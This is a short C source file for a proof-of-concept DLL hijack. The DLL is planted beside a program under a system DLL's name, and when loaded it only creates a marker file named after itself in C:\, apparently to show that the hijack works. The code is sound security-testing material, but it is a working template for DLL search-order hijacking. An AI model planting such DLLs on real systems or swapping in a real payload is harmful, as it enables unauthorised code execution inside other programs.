/* A DLL planted beside the program under a system DLL's name. When anything
   loads it, it leaves a marker file named after itself in C:\. */
#include <windows.h>

BOOL WINAPI DllMain(HINSTANCE instance, DWORD reason, LPVOID reserved)
{
    (void)reserved;
    if (reason == DLL_PROCESS_ATTACH) {
        char self[MAX_PATH] = "";
        char marker[MAX_PATH + 32] = "C:\\planted-";
        const char* name = self;
        GetModuleFileNameA(instance, self, MAX_PATH);
        for (const char* p = self; *p; ++p)
            if (*p == '\\') name = p + 1;
        lstrcatA(marker, name);
        lstrcatA(marker, ".txt");
        HANDLE file = CreateFileA(marker, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
        if (file != INVALID_HANDLE_VALUE) CloseHandle(file);
    }
    return TRUE;
}
